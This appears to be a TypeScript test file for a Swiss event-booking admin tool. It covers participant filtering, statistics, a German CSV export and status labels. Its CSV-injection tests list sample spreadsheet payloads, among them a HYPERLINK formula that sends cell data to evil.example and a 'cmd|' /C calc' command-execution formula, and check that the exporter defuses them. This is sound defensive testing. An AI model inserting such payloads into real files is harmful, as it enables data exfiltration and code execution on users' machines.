import { bookingStatusLabel } from '@/features/admin-participants/lib/booking-state';
import { toAdminParticipant } from '@/features/admin-participants/lib/admin-participant';
import { filterParticipants, participantStats } from '@/features/admin-participants/lib/participant-filters';
import { csvCell } from '@/lib/csv';
import { participantsToCsv } from '@/features/admin-participants/lib/participants-csv';
import { participantRow } from './fixtures';

const anna = toAdminParticipant(participantRow());
// Paid online with TWINT, CHF 130 for one person.
const annaAgain = toAdminParticipant(
  participantRow({
    id: 'p2',
    reference: 'SW-ABCD',
    email: 'ANNA@example.ch',
    payment_method: 'stripe',
    paid_method: 'twint',
    paid_cents: 13000,
    open_cents: 0,
    event_id: 'e2',
    event: null,
  }),
);
// Cancelled by invoice: CHF 260 paid, CHF 100 refunded, the rest kept.
const ben = toAdminParticipant(
  participantRow({
    id: 'p3',
    reference: 'SW-BEN2',
    name: 'Ben Beispiel',
    email: 'ben@example.ch',
    status: 'cancelled',
    payment_method: 'invoice',
    paid_method: 'invoice',
    invoice_reference: '210000000003139471430009017',
    persons: 2,
    owed_cents: 0,
    paid_cents: 26000,
    refunded_cents: 10000,
    open_cents: 0,
    excess_cents: 16000,
    last_action: 'cancelled_by_staff',
    last_action_at: '2026-11-25T15:00:00Z',
    notes: 'Vegan; "bitte"',
    answers: [
      { question_id: 'q-1', label: 'Menü', answer: 'vegan' },
      { question_id: 'q-2', label: 'Alter des Kindes', answer: '7' },
    ],
  }),
);
// Another event asking the same question text (one column) and one more.
const cleo = toAdminParticipant(
  participantRow({
    id: 'p4',
    persons: 3,
    tickets: [
      { name: 'Erwachsene', persons: 2, price_cents: 4500 },
      { name: 'Kinder (5–12)', persons: 1, price_cents: 2500 },
    ],
    name: 'Cleo',
    email: 'cleo@example.ch',
    answers: [
      { question_id: 'q-9', label: 'Menü', answer: 'Fleisch' },
      { question_id: 'q-10', label: 'Allergien', answer: 'Nüsse' },
    ],
  }),
);

describe('participant filters and stats', () => {
  it('searches name or e-mail, and filters by event, status and money', () => {
    const all = [anna, annaAgain, ben];
    expect(filterParticipants(all, { search: 'BEISPIEL', eventId: 'all', status: 'all' })).toEqual([ben]);
    expect(filterParticipants(all, { search: 'anna@', eventId: 'all', status: 'confirmed' })).toEqual([
      anna,
      annaAgain,
    ]);
    expect(filterParticipants(all, { search: '', eventId: 'all', status: 'cancelled' })).toEqual([ben]);
    expect(filterParticipants(all, { search: '', eventId: 'all', status: 'money_open' })).toEqual([anna]);
    expect(filterParticipants(all, { search: '', eventId: 'e2', status: 'all' })).toEqual([annaAgain]);
  });

  it('counts distinct people by e-mail, settled and open bookings, and registrations', () => {
    expect(participantStats([anna, annaAgain, ben])).toEqual({
      uniqueParticipants: 2,
      settled: 1,
      open: 1,
      registrations: 3,
    });
  });

  it('shows a missing event as Unknown Event', () => {
    expect(annaAgain.eventTitle).toBe('Unknown Event');
  });
});

describe('participants CSV', () => {
  const csv = participantsToCsv([anna, annaAgain, ben, cleo]);
  const lines = csv.slice(1).split('\r\n');
  const header = lines[0]!.split(';');
  const cells = (line: number) => lines[line]!.split(/;(?=")/);
  const cell = (line: number, column: string) => cells(line)[header.indexOf(`"${column}"`)];

  it('is UTF-8 with a BOM, semicolon-separated, quoted, CRLF-terminated', () => {
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(lines[0]).toBe(
      '"Buchungsreferenz";"Name";"E-Mail";"Telefon";"Event";"Eventdatum";"Personen";"Tickets";"Status";"Zahlung";"Zahlungsart";"QR-Referenz";"Betrag geschuldet (CHF)";"Bezahlt (CHF)";"Rückerstattet (CHF)";"Offen (CHF)";"Zahlung prüfen";"Anmeldedatum";"Letzte Änderung";"Kommentar";"Menü";"Alter des Kindes";"Allergien"',
    );
  });

  it('writes references, amounts, de-CH dates in Zurich time and German labels', () => {
    // 09:30 UTC on 20 November is 10:30 in Zurich.
    expect(lines[1]).toBe(
      '"SW-7K3M";"Anna Muster";"anna@example.ch";"\'+41 79 111 22 33";"Breathwork & Brunch";"15.03.2099";"1";"";"Bestätigt";"offen CHF 130.00";"Vor Ort";"";"130.00";"0.00";"0.00";"130.00";"Nein";"20.11.2026 10:30";"20.11.2026 10:30: Gebucht";"";"";"";""',
    );
    expect(cell(3, 'Buchungsreferenz')).toBe('"SW-BEN2"');
    expect(cell(3, 'QR-Referenz')).toBe('"21 00000 00003 13947 14300 09017"');
    expect(cell(3, 'Bezahlt (CHF)')).toBe('"260.00"');
    expect(cell(3, 'Rückerstattet (CHF)')).toBe('"100.00"');
    expect(cell(3, 'Zahlung')).toBe('"teilweise zurückerstattet, CHF 160.00 zu viel erhalten"');
    expect(cell(3, 'Letzte Änderung')).toBe('"25.11.2026 16:00: Vom Team storniert"');
  });

  it('names the tickets per type of a booking with ticket types (issue 28)', () => {
    expect(cell(4, 'Tickets')).toBe('"2 × Erwachsene à CHF 45.00, 1 × Kinder (5–12) à CHF 25.00"');
    expect(cell(1, 'Tickets')).toBe('""');
  });

  it('tells TWINT apart from card', () => {
    expect(cell(2, 'Zahlungsart')).toBe('"Online (TWINT)"');
  });

  it('puts each question in its own column, headed by the question text', () => {
    expect(cell(3, 'Menü')).toBe('"vegan"');
    expect(cell(3, 'Alter des Kindes')).toBe('"7"');
    expect(cell(3, 'Allergien')).toBe('""');
    expect(cell(4, 'Menü')).toBe('"Fleisch"');
    expect(cell(4, 'Allergien')).toBe('"Nüsse"');
  });

  it('escapes quotes and keeps semicolons inside a cell', () => {
    expect(cell(3, 'Status')).toBe('"Storniert"');
    expect(lines[3]).toContain(';"Vegan; ""bitte""";');
  });

  // OWASP: every cell starting with =, +, -, @, tab, carriage return or line feed gets a leading
  // apostrophe, whatever follows, and so does one whose leading white space hides such a
  // character; everything else is left alone.
  it.each([
    [
      '-1+HYPERLINK("http://evil.example/?x="&A1;"Klick")',
      '"\'-1+HYPERLINK(""http://evil.example/?x=""&A1;""Klick"")"',
    ],
    ["+2+3+cmd|' /C calc'!A0", "\"'+2+3+cmd|' /C calc'!A0\""],
    ['@SUM(1)', '"\'@SUM(1)"'],
    ['=1+1', '"\'=1+1"'],
    ['=HYPERLINK("x")', '"\'=HYPERLINK(""x"")"'],
    ['\t=1+1', '"\'\t=1+1"'],
    ['\r=1+1', '"\'\r=1+1"'],
    ['- 5', '"\'- 5"'],
    // Leading white space a spreadsheet skips before reading a formula: line feed, carriage
    // return, tab, space, no-break space (and any mix of them).
    ['\n=1+1', '"\'\n=1+1"'],
    ['\r\n@SUM(1)', '"\'\r\n@SUM(1)"'],
    [' =1+1', '"\' =1+1"'],
    ['   +41 79 123 45 67', '"\'   +41 79 123 45 67"'],
    ['\u00A0=HYPERLINK("x")', '"\'\u00A0=HYPERLINK(""x"")"'],
    ['\u00A0 \n-1+1', '"\'\u00A0 \n-1+1"'],
    ['\n', '"\'\n"'],
    [' Anna', '" Anna"'],
    ['\u00A0Anna', '"\u00A0Anna"'],
    ['-', '"\'-"'],
    // A legitimate phone number stays text with every digit (Excel shows '+41 79 123 45 67
    // instead of running it as a formula and showing #NAME?).
    ['+41 79 123 45 67', '"\'+41 79 123 45 67"'],
    ['079 123 45 67', '"079 123 45 67"'],
    ['Anna = Ben', '"Anna = Ben"'],
    ['', '""'],
  ])('writes %j as %s', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('defuses a payload in any column of an exported row', () => {
    const payload = toAdminParticipant(
      participantRow({
        name: '=1+1',
        phone: '+41 79 111 22 33',
        notes: '@SUM(1)',
        answers: [{ question_id: 'q-1', label: '=Frage', answer: '-1' }],
      }),
    );
    const csv = (p: typeof payload) => participantsToCsv([p]).slice(1);
    const [, row] = csv(payload).split('\r\n');
    expect(row?.startsWith('"SW-7K3M";"\'=1+1";')).toBe(true);
    expect(row).toContain(';"\'+41 79 111 22 33";');
    expect(row).toContain(';"\'@SUM(1)";');
    // The question's text heads its column: defused there, and its answer in the row.
    expect(csv(payload).split('\r\n')[0]?.endsWith(';"\'=Frage"')).toBe(true);
    expect(row?.endsWith(';"\'-1"')).toBe(true);
  });
});

describe('bookingStatusLabel', () => {
  it('calls a held on-site or invoice booking "Bestätigung ausstehend", a held online one "Reserviert"', () => {
    expect(bookingStatusLabel('held', 'onsite')).toBe('Bestätigung ausstehend');
    expect(bookingStatusLabel('held', 'invoice')).toBe('Bestätigung ausstehend');
    expect(bookingStatusLabel('held', 'stripe')).toBe('Reserviert');
    expect(bookingStatusLabel('held')).toBe('Reserviert');
    expect(bookingStatusLabel('confirmed', 'onsite')).toBe('Bestätigt');
  });
});
